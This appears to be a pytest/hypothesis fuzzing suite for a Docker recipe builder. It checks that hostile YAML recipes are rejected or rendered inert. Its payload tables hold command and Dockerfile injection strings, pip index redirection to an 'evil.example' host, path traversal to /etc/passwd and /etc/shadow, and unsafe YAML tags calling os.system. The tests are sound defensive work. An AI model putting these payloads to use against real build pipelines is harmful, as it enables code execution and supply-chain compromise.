# ruff: noqa: E501  (tables of hostile inputs read best one entry per line)
"""Property-based fuzzing of the recipe loader, validator and resolver (hypothesis).

Generated recipes, valid-ish and hostile, go through parse_recipe -> resolve -> render. The
only outcomes allowed are a ResolvedSpec or a clean RecipeError/ResolveError (exit 2, every
problem named). A spec that is accepted must also be inert: no value adds a Dockerfile line or
a requirements line, and every ENV value reads back, through Docker's quoting rules, as written.

Runs are derandomized so that the counts in SECURITY.md (scripts/security_figures.py) hold.
"""

from __future__ import annotations

import dataclasses
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from builder.errors import RecipeError, ResolveError
from builder.matrix import framework_names
from builder.recipe import TOP_KEYS, parse_recipe
from builder.render import render
from builder.resolve import resolve
from builder.spec import ResolvedSpec

EXAMPLES = 400  # per property; scripts/security_figures.py reads this
FUZZ = settings(
    max_examples=EXAMPLES, deadline=None, derandomize=True, database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)  # fmt: skip

# Strings that try to end a Dockerfile line, start an instruction, run a command in a shell or
# in pip's requirement parser, expand a variable or a Jinja expression, or escape a folder.
PAYLOADS = (
    "x\nRUN touch /pwned", "x\r\nRUN touch /pwned", "x\rRUN touch /pwned", "git\n", "\n",
    "a; touch /pwned", "a && touch /pwned", "a || touch /pwned", "a | sh", "$(touch /pwned)",
    "`touch /pwned`", "${HOME}", "$HOME", "\\", "x\\", "\\\nRUN id", '"; touch /pwned; "',
    "'; touch /pwned; '", "{{ 7*7 }}", "{% if true %}x{% endif %}", "{# c #}", "{{ p.base_image }}",
    "RUN touch /pwned", "FROM scratch", "ENV PATH=/evil", "# comment", "../../etc/passwd",
    "/etc/passwd", "..", "/a/../../b", "~root", "*", "-rf", "--index-url http://evil.example/simple",
    "-e .", "-r /etc/shadow", "numpy; os_name == \"x\x0b-i http://evil.example/simple\"",
    "numpy; os_name == \"x\u2028--trusted-host evil\"", "numpy; os_name != \"a #b\"", "x\x00y",
    "x\x0by", "x\x85y", "x\u2028y", "x\u2029y", "x\ty", "\u202eevil", "A" * 5000, "", " ",
    "numpy @ file:///etc/passwd", "numpy==1.0\n-i http://evil", "scikit-learn[$(id)]",
    "<script>", "%s%n", "\ufeffname", "\\$(touch /pwned)", "$${HOME}", "@", "name:tag@sha256:x",
)  # fmt: skip
ANY_TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40)
HOSTILE = st.one_of(st.sampled_from(PAYLOADS), ANY_TEXT)
SCALAR = st.one_of(HOSTILE, st.integers(-(10**20), 10**20), st.floats(allow_nan=True), st.booleans(), st.none())
ANY_VALUE = st.recursive(
    SCALAR,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)),
    max_leaves=12,
)


def _maybe(valid: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Mostly the valid shape, sometimes a hostile string, sometimes anything at all."""
    return st.one_of(valid, valid, valid, HOSTILE, ANY_VALUE)


REQUIREMENT = st.sampled_from(
    ["pandas==2.2.3", "numpy<2", "requests[socks]>=2", "rich", "numpy; python_version >= '3'"]
)
ENV_NAME = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,10}", fullmatch=True)
VALID_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "name": st.from_regex(r"[a-z0-9]{1,8}(-[a-z0-9]{1,8})?", fullmatch=True),
    "framework": st.sampled_from(framework_names()),
    "framework_version": st.sampled_from(["2.4", "1.5", ">=2.3,<2.6", "==0.4.30", "99", "2.16"]),
    "python": st.sampled_from(["3.9", "3.10", "3.11", "3.12", "3.13", "3.99"]),
    "cuda": st.sampled_from(["cpu", "11.8", "12.1", "12.4", "12.6", "13.0"]),
    "base_image": st.sampled_from(["mlbuild/debian:bookworm", "nvcr.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04"]),
    "packages": st.lists(st.one_of(REQUIREMENT, HOSTILE), max_size=4),
    "system_packages": st.lists(st.one_of(st.sampled_from(["git", "libgl1", "curl=7.88.1-10"]), HOSTILE), max_size=3),
    "env": st.dictionaries(st.one_of(ENV_NAME, HOSTILE), st.one_of(HOSTILE, st.integers()), max_size=4),
    "files": st.lists(st.fixed_dictionaries({"src": st.one_of(st.just("train.py"), HOSTILE),
                                             "dest": st.one_of(st.just("/w/train.py"), HOSTILE)}), max_size=2),
    "workdir": st.one_of(st.sampled_from(["/workspace", "/", "/a/b"]), HOSTILE),
    "user": st.one_of(st.sampled_from(["mlbuild", "root", "svc_1"]), HOSTILE),
    "smoke": st.fixed_dictionaries({}, optional={"gpu": st.sampled_from(["auto", "off", "required"]),
                                                 "run": st.lists(HOSTILE, max_size=3)}),
    "image": st.fixed_dictionaries({}, optional={"repository": st.one_of(st.just("registry.example.com/t/x"), HOSTILE),
                                                 "tags": st.lists(HOSTILE, max_size=3)}),
    "gpu": st.fixed_dictionaries({}, optional={"min_driver": st.sampled_from(["535.104.05", "1"]),
                                               "archs": st.lists(st.sampled_from(["sm_80", "sm_90", "x"]), max_size=3)}),
}  # fmt: skip
RECIPES = st.fixed_dictionaries(
    {"name": _maybe(VALID_FIELDS["name"]), "framework": _maybe(VALID_FIELDS["framework"])},
    optional={
        **{k: _maybe(v) for k, v in VALID_FIELDS.items() if k not in ("name", "framework")},
        "schema": st.sampled_from([1, 2, "1", None]),
        "framework_from_base": st.one_of(st.booleans(), HOSTILE),
    },
).flatmap(
    lambda d: st.dictionaries(st.sampled_from(["pyhton", "frameworks", "Name", "x" * 3]), ANY_VALUE, max_size=1).map(
        lambda extra: {**d, **extra}
    )
    | st.just(d)
)  # fmt: skip

INSTRUCTION_RE = re.compile(r"^(FROM|ENV|RUN|COPY|WORKDIR|LABEL|USER|CMD) ")


def outcome(data: bytes, folder: Path) -> ResolvedSpec | None:
    """The only allowed outcomes: a spec, or a clean recipe/resolve error (then None)."""
    try:
        recipe = parse_recipe(data, folder / "recipe.yaml")
    except RecipeError as exc:
        assert exc.exit_code == 2 and exc.problems and all(str(p) for p in exc.problems)
        assert exc.message.startswith(str(folder / "recipe.yaml") + ": ")
        return None
    try:
        return resolve(recipe)
    except ResolveError as exc:
        assert exc.exit_code == 2 and exc.message
        return None


def docker_unquote(word: str) -> str:
    """What Docker's lexer makes of a double-quoted ENV word: \\" \\$ \\\\ lose their backslash."""
    assert word.startswith('"') and word.endswith('"'), word
    out, i, body = [], 0, word[1:-1]
    while i < len(body):
        if body[i] == "\\" and i + 1 < len(body) and body[i + 1] in '"$\\':
            out.append(body[i + 1])
            i += 2
            continue
        assert body[i] not in '"', f"an unescaped quote ends the word early: {word!r}"
        out.append(body[i])
        i += 1
    return "".join(out)


def assert_inert(spec: ResolvedSpec) -> None:
    """Accepted values cannot add a line to the Dockerfile or to requirements.txt."""
    text = render(spec)
    plain = dataclasses.replace(
        spec, env=tuple((k, "x") for k, _ in spec.env), smoke_run=tuple("x" for _ in spec.smoke_run)
    )
    # Docker's parser splits lines on \n only (\x0b or \u2028 in a quoted ENV value are text).
    assert "\r" not in text and text.count("\n") == render(plain).count("\n")
    for line in text.split("\n"):
        assert not line or line.startswith("#") or INSTRUCTION_RE.match(line), line[:120]
    for key, value in spec.env:
        line = next(x for x in text.split("\n") if x.startswith(f"ENV {key}="))
        assert docker_unquote(line.split("=", 1)[1]) == value
    reqs = "\n".join(spec.requirements)
    assert reqs.splitlines() == list(spec.requirements)  # pip splits with str.splitlines()
    assert not any(r.startswith("-") or " #" in r for r in spec.requirements)
    single_line = [spec.name, spec.user, spec.workdir or "", *spec.system_packages,
                   *(p for f in spec.files for p in f), *spec.tags, spec.repository, spec.base_image]  # fmt: skip
    for value in single_line:
        assert not re.search(r"[\s\"'$`;&|{}\\]", value) or value == "", repr(value)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("fuzz")
    (path / "train.py").write_text("print('hi')\n")
    return path


@FUZZ
@given(doc=RECIPES)
def test_generated_recipes_resolve_or_fail_cleanly(doc: dict[str, Any], folder: Path) -> None:
    data = yaml.safe_dump(doc, allow_unicode=True).encode()
    spec = outcome(data, folder)
    if spec is not None:
        assert_inert(spec)


FUZZED_FIELDS = [k for k in TOP_KEYS if k != "schema"]


@pytest.mark.parametrize("field", FUZZED_FIELDS)
def test_every_payload_in_every_field(field: str, folder: Path) -> None:
    """Each hostile string, alone, in the place where a field's value (or item) goes: every
    payload in every field, not a sample."""
    base: dict[str, Any] = {"name": "fuzz", "framework": "sklearn"}
    for payload in PAYLOADS:
        shapes: dict[str, Any] = {
            "packages": [payload], "system_packages": [payload], "env": {"A": payload},
            "files": [{"src": payload, "dest": "/w/x"}], "smoke": {"run": [payload]},
            "image": {"tags": [payload]}, "gpu": {"archs": [payload]},
        }  # fmt: skip
        spec = outcome(yaml.safe_dump({**base, field: shapes.get(field, payload)}, allow_unicode=True).encode(), folder)
        if spec is not None:
            assert_inert(spec)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_every_payload_as_a_key(payload: str, folder: Path) -> None:
    """Names that become Dockerfile text too: an env name, a file's destination."""
    base: dict[str, Any] = {"name": "fuzz", "framework": "sklearn"}
    for doc in ({**base, "env": {payload: "x"}}, {**base, "files": [{"src": "train.py", "dest": payload}]}):
        spec = outcome(yaml.safe_dump(doc, allow_unicode=True).encode(), folder)
        if spec is not None:
            assert_inert(spec)


@FUZZ
@given(data=st.binary(max_size=400))
def test_random_bytes_fail_cleanly(data: bytes, folder: Path) -> None:
    assert outcome(data, folder) is None or True  # the outcome() assertions are the test


@FUZZ
@given(base=st.sampled_from(sorted((Path(__file__).resolve().parents[2] / "recipes").glob("*.yaml"))),
       cut=st.integers(0, 2000), junk=st.sampled_from(["\t", ":", "- ", "&a ", "*a", "!!python/name:os.system", "{", "]", "\x00", "\xff", "'", "\"", "? ", "<<: *a\n", "\n  - x", "%TAG ! x\n"]))  # fmt: skip
def test_mutated_example_recipes_fail_cleanly(base: Path, cut: int, junk: str, folder: Path) -> None:
    """Real recipes with YAML syntax spliced in somewhere: a YAML error or a validation error."""
    text = base.read_bytes()
    pos = cut % (len(text) + 1)
    data = text[:pos] + junk.encode("utf-8", "surrogateescape") + text[pos:]
    spec = outcome(data, folder)
    if spec is not None:
        assert_inert(spec)


# Hand-picked hostile documents: each must be refused with exit 2 and a named problem.
BAD_DOCUMENTS: dict[str, bytes] = {
    "empty file": b"",
    "only a comment": b"# nothing\n",
    "non-UTF-8 bytes": b"name: \xff\xfe\nframework: sklearn\n",
    "UTF-16 with BOM": "name: x\nframework: sklearn\n".encode("utf-16"),
    "NUL byte": b"name: x\x00\nframework: sklearn\n",
    "tab indentation": b"name: x\nsmoke:\n\trun: [a]\n",
    "duplicate keys": b"name: a\nname: b\nframework: sklearn\n",
    "duplicate nested keys": b"name: a\nframework: sklearn\nenv: {A: 1, A: 2}\n",
    "billion laughs": b"a: &a [x,x,x,x,x,x,x,x,x,x]\n"
    + b"".join(
        f"{c}: &{c} [{', '.join(['*' + p] * 10)}]\n".encode() for p, c in zip("abcdefghi", "bcdefghij", strict=True)
    ),
    "alias cycle": b"a: &a [*a]\nname: x\nframework: sklearn\n",
    "huge file": b"name: x\nframework: sklearn\n# " + b"x" * 300_000 + b"\n",
    "huge value": b"name: x\nframework: sklearn\nenv: {A: '" + b"x" * 5000 + b"'}\n",
    "long list": b"name: x\nframework: sklearn\nsystem_packages: [" + b", ".join([b"git"] * 300) + b"]\n",
    "deep block nesting": b"a:\n" + b"".join(b"  " * i + b"b:\n" for i in range(1, 60)),
    "deep flow nesting": b"a: " + b"[" * 100_000,
    "python object tag": b"name: !!python/object/apply:os.system ['id']\nframework: sklearn\n",
    "python name tag": b"name: !!python/name:os.system\nframework: sklearn\n",
    "local tag": b"name: !shell id\nframework: sklearn\n",
    "binary tag": b"name: !!binary aGVsbG8=\nframework: sklearn\n",
    "set tag": b"name: x\nframework: sklearn\npackages: !!set {a, b}\n",
    "timestamp value": b"name: x\nframework: sklearn\nworkdir: 2001-01-01\n",
    "merge key": b"base: &b {name: x}\n<<: *b\nframework: sklearn\n",
    "complex key": b"? [a, b]\n: c\nname: x\nframework: sklearn\n",
    "integer key": b"1: x\nname: x\nframework: sklearn\n",
    "two documents": b"name: x\nframework: sklearn\n---\nname: y\n",
    "a list": b"- name: x\n",
    "a string": b"just text\n",
    "missing required keys": b"python: '3.11'\n",
    "unknown key": b"name: x\nframework: sklearn\npyhton: '3.11'\n",
    "wrong types": b"name: [x]\nframework: {a: 1}\npackages: 3\nenv: [a]\nsmoke: run\n",
    "null list entries": b"name: x\nframework: sklearn\npackages: [null]\nfiles: [~]\n",
    "trailing newline in a name": b'name: "x\\n"\nframework: sklearn\n',
    "trailing newline in an env name": b'name: x\nframework: sklearn\nenv: {"A\\n": x}\n',
    "trailing newline in a system package": b'name: x\nframework: sklearn\nsystem_packages: ["git\\n"]\n',
    "trailing newline in base_image": b'name: x\nframework: sklearn\nbase_image: "debian\\n"\n',
    "trailing newline in user": b'name: x\nframework: sklearn\nuser: "root\\n"\n',
    "requirement with a line break pip sees": b'name: x\nframework: sklearn\npackages: ["numpy; os_name == \\"x\\v-i http://evil.example/simple\\""]\n',
    "requirement with a comment": b'name: x\nframework: sklearn\npackages: ["numpy; os_name != \\"a #b\\""]\n',
    "absurd framework version": b"name: x\nframework: sklearn\nframework_version: '99999.1'\n",
    "absurd python": b"name: x\nframework: sklearn\npython: '3.99'\n",
    "absurd cuda": b"name: x\nframework: pytorch\ncuda: '99.9'\n",
    "version as a number": b"name: x\nframework: sklearn\npython: 3.10\n",
    "version with a shell": b"name: x\nframework: sklearn\nframework_version: '1.5; id'\n",
    "huge version number": b"name: x\nframework: sklearn\nframework_version: '==1." + b"9" * 4000 + b"'\n",
    "files outside": b"name: x\nframework: sklearn\nfiles: [{src: ../x, dest: /x}]\n",
    "files absolute": b"name: x\nframework: sklearn\nfiles: [{src: /etc/passwd, dest: /x}]\n",
    "dest with ..": b"name: x\nframework: sklearn\nfiles: [{src: train.py, dest: /a/../../etc}]\n",
}


@pytest.mark.parametrize("data", BAD_DOCUMENTS.values(), ids=list(BAD_DOCUMENTS))
def test_bad_documents_are_refused_cleanly(data: bytes, folder: Path) -> None:
    assert outcome(data, folder) is None


# files: sources that lead out of the recipe's folder through a symlink: a folder holding
# one, and the link itself
SYMLINKS_OUT = ("d", "d/link")


@pytest.mark.parametrize("src", SYMLINKS_OUT)
def test_symlink_out_of_the_recipe_folder_is_refused(src: str, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("x")
    inner = tmp_path / "r"
    (inner / "d").mkdir(parents=True)
    (inner / "d" / "link").symlink_to(tmp_path / "secret")
    data = f"name: x\nframework: sklearn\nfiles: [{{src: {src}, dest: /x}}]\n".encode()
    with pytest.raises(RecipeError) as info:
        parse_recipe(data, inner / "recipe.yaml")
    assert "outside the recipe's folder" in "\n".join(info.value.details)
